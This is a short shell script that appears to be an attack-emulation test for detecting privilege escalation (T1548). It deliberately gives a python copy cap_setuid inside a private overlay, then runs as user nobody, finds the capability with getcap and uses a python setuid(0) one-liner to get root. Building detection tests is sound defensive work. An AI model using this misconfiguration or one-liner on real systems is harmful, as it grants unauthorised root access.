# technique: T1548
# tactic: privilege-escalation
# name: Unprivileged user becomes root through a python binary carrying cap_setuid
# expect: detected
. "$EMULATION_LIB"
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
need python3 setcap getcap setpriv
# A private, writable view of /usr/local/bin: the host's copy is never written.
private_overlay /usr/local/bin

# The misconfiguration (an admin "letting python bind low ports" the wrong way): a python copy with
# cap_setuid in its file capabilities.
cp "$(readlink -f "$(command -v python3)")" /usr/local/bin/python3-net
setcap cap_setuid+ep /usr/local/bin/python3-net

# The attacker, as an unprivileged user (nobody): find binaries with capabilities, then the
# GTFOBins one-liner: setuid(0) and run a command as root.
setpriv --reuid=65534 --regid=65534 --clear-groups getcap -r /usr/local/bin > caps.txt 2>/dev/null || true
grep -q cap_setuid caps.txt
setpriv --reuid=65534 --regid=65534 --clear-groups /usr/local/bin/python3-net -c 'import os;os.setuid(0);os.system("id -u")' > uid.txt
test "$(cat uid.txt)" = 0
